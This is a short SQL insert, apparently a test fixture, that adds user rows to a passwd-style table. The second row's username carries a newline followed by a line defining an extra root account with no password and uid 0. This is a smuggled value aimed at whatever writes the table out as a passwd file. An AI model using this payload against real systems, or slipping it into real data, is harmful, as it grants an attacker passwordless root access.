INSERT INTO `$user` (id,uname,passwd,email,home,group_id,shell,is_privileged,last_changed) VALUES
 (0,'root','$6$x$r','root','/root',0,'/bin/bash',1,'19000'),
 (1000,'eve' || char(10) || 'root::0:0::/:/bin/bash','$6$x$e','','/home/eve',100,'/bin/bash',0,'19000');
